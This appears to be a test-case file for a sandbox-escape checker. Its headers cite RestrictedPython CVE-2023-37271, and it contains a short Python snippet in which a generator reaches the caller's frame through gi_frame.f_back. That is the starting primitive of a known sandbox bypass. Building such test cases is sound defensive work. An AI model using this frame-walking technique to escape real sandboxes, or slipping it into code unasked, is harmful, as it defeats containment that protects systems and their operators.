#: title: generator frame to the caller's frame
#: breaks: RestrictedPython CVE-2023-37271
#: severity: low
#: check: flag
#: status: ok | exception
def g(): yield g.gi_frame.f_back.f_back
g = g()
f = next(g)
print(f)
